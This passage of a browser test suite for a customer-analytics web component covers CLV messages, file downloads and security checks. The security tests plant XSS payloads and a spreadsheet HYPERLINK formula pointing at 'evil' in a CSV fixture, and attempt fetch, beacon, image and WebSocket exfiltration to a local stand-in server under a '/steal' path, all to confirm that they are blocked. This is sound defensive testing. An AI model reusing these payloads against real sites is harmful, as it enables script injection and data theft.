  // One purchase per customer: no model can be fitted, so the CLV panel gives way to the
  // engine's reason and advice, in the page's language (engine messages come in options.locale).
  const once = join(tmp, "one-purchase-each.csv");
  writeFileSync(once, "customer_id,order_date,amount\n" + Array.from({ length: 30 }, (_, i) => `c${i},2024-0${1 + (i % 9)}-1${i % 10},${10 + i}`).join("\n") + "\n");
  for (const [locale, reason, advice] of [
    ["en-US", /^CLV: [^:]*NBD cannot be estimated: no customer bought again on another day \(0 of 30 customers came back on another day, over \d+ days of history\)/, /export a longer period/],
    ["zh-CN", /^客户价值（CLV）：[^：]*NBD 无法估计：没有客户在另一天再次购买/, /请导出更长时间段的订单/],
  ]) {
    const tiny = await openPage(env, "/?sample=0", { locale });
    try {
      await dropFile(tiny, once, "one-purchase-each.csv");
      const [r] = await waitForResults(tiny);
      assert.equal(r.detail.clv, null);
      assert.equal(await lens(tiny, "#panel-clv").count(), 0);
      assert.match(await lens(tiny, "#panel-clv-none [data-clv-none=reasons]").textContent(), reason);
      assert.match(await lens(tiny, "#panel-clv-none").textContent(), advice);
      check(tiny, env);
    } finally {
      await tiny.close();
    }
  }
});

test("tables download as CSV, charts as PNG and SVG, the customer table as CSV", async () => {
  const g = golden("tiny");
  const page = await openPage(env);
  const download = async (locator) => {
    const [d] = await Promise.all([page.waitForEvent("download"), locator.click()]);
    return { name: d.suggestedFilename(), bytes: readFileSync(await d.path()) };
  };
  try {
    await setOptions(page, g.options);
    await dropFile(page, g.file, "tiny orders.csv");
    await waitForResults(page);
    const csv = await download(lens(page, "#panel-cohorts [data-download=csv][data-name=cohorts-retention]"));
    assert.equal(csv.name, "tiny-orders-cohorts-retention.csv");
    const text = csv.bytes.toString("utf8");
    assert.ok(text.startsWith("\uFEFFCohort,Customers,M0,M1,M2,M3\r\n"), text.slice(0, 80));
    assert.match(text, /\r\n2024-01,5,1,0\.2,0\.4,0\.2\r\n/);

    const png = await download(lens(page, "figure[data-chart=retention-curves] [data-download=png]"));
    assert.equal(png.name, "tiny-orders-retention-curves.png");
    assert.deepEqual([...png.bytes.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    assert.ok(png.bytes.length > 5000);

    const svg = await download(lens(page, "figure[data-chart=funnel] [data-download=svg]"));
    const svgText = svg.bytes.toString("utf8");
    assert.match(svgText, /^<\?xml[^>]*>\s*<svg[^>]*xmlns="http:\/\/www.w3.org\/2000\/svg"/);
    assert.match(svgText, /2nd purchase/);

    await lens(page, "table[data-table=silent-customers]").waitFor();
    const customers = await download(lens(page, "[data-download=customers-csv]"));
    const lines = customers.bytes.toString("utf8").replace(/^\uFEFF/, "").trim().split(/\r?\n/);
    assert.match(lines[0], /^customer,/);
    assert.equal(lines.length - 1, TINY_PAGE_BUYERS);

    // The ingest details (rejected rows among them) are folded under their one-line summary.
    await lens(page, "#panel-data summary[data-fold=ingest]").click();
    const rejected = await download(lens(page, ".table-block [data-download=csv][data-name=rejected-rows]"));
    assert.match(rejected.bytes.toString("utf8"), /\r\n28,order_date,2024-13-45 10:00:00,unreadable time\r\n/);
    check(page, env);
  } finally {
    await page.close();
  }
});

test("values from the file are rendered as text, never as HTML", async () => {
  const file = join(tmp, "hostile.csv");
  const evil = '<img src=x onerror="window.__pwned=1">';
  writeFileSync(file, [
    "customer_id,order_date,amount,channel",
    `"${evil.replace(/"/g, '""')}",2024-01-01,10,<b>web</b>`,
    `"${evil.replace(/"/g, '""')}",2024-01-10,10,<b>web</b>`,
    "plain,2024-01-02,5,<script>alert(1)</script>",
    "plain,2024-03-01,5,<script>alert(1)</script>",
    `"=HYPERLINK(""http://evil"")",2024-01-03,5,app`,
    ",2024-01-04,5,app",
  ].join("\n") + "\n");
  const page = await openPage(env);
  try {
    await setOptions(page, { silentDays: 30 });
    await pickFile(page, file);
    const [r] = await waitForResults(page);
    assert.equal(r.type, "cohort-lens-report");
    await lens(page, "table[data-table=silent-customers]").waitFor();
    const html = await page.evaluate(() => document.querySelector("cohort-lens").shadowRoot.innerHTML);
    assert.ok(!/<img[^>]*src="?x/i.test(html), "no <img> from the file");
    assert.ok(!/<b>web<\/b>/.test(html) && !/<script>/.test(html), "no markup from the file");
    assert.equal(await page.evaluate(() => window.__pwned), undefined);
    const groups = await lens(page, "#panel-breakdowns tbody tr").evaluateAll((trs) => trs.map((tr) => tr.dataset.group));
    assert.ok(groups.includes("<b>web</b>"), groups.join());
    assert.equal(await lens(page, "#panel-breakdowns tbody tr th").first().textContent(), "<b>web</b>");
    const silent = await lens(page, "table[data-table=silent-customers] tbody th").allTextContents();
    assert.ok(silent.includes(evil) && silent.includes('=HYPERLINK("http://evil")'), silent.join(" | "));
    // In a CSV download, a cell a spreadsheet would run as a formula is defused with a quote.
    const [d] = await Promise.all([page.waitForEvent("download"), lens(page, "[data-download=csv][data-name=silent-customers]").click()]);
    const csv = readFileSync(await d.path(), "utf8");
    assert.match(csv, /\r\n"'=HYPERLINK\(""http:\/\/evil""\)",/);
    check(page, env);
  } finally {
    await page.close();
  }
});

test("the Content-Security-Policy stops data from leaving the page", async () => {
  // A second server on another port stands in for "anywhere else"; it must see no request.
  let hits = 0;
  const other = createServer((req, res) => { hits++; res.end("ok"); });
  await new Promise((done) => other.listen(0, "127.0.0.1", done));
  const elsewhere = `http://127.0.0.1:${other.address().port}`;
  const page = await openPage(env);
  try {
    const csp = await page.getAttribute("meta[http-equiv=Content-Security-Policy]", "content");
    assert.match(csp, /connect-src 'self'/);
    assert.match(csp, /default-src 'self'/);
    const outcome = await page.evaluate(async (url) => {
      const results = {};
      try { await fetch(`${url}/steal?d=1`, { method: "POST", body: "orders", mode: "no-cors" }); results.fetch = "sent"; } catch { results.fetch = "blocked"; }
      results.beacon = navigator.sendBeacon(`${url}/beacon`, "orders") ? "queued" : "blocked";
      await new Promise((done) => { const img = new Image(); img.onload = img.onerror = done; img.src = `${url}/pixel.png`; });
      try { const ws = new WebSocket(url.replace("http", "ws")); results.ws = "opened"; ws.close(); } catch { results.ws = "blocked"; }
      return results;
    }, elsewhere);
    assert.equal(outcome.fetch, "blocked");
    await page.waitForTimeout(300);
    assert.equal(hits, 0, "the other origin received a request");
    assert.ok(page.log.errors.some((e) => /Content Security Policy|CSP violation/.test(e)), "violations are reported");
  } finally {
    await page.close();
    await new Promise((done) => other.close(done));
  }
});
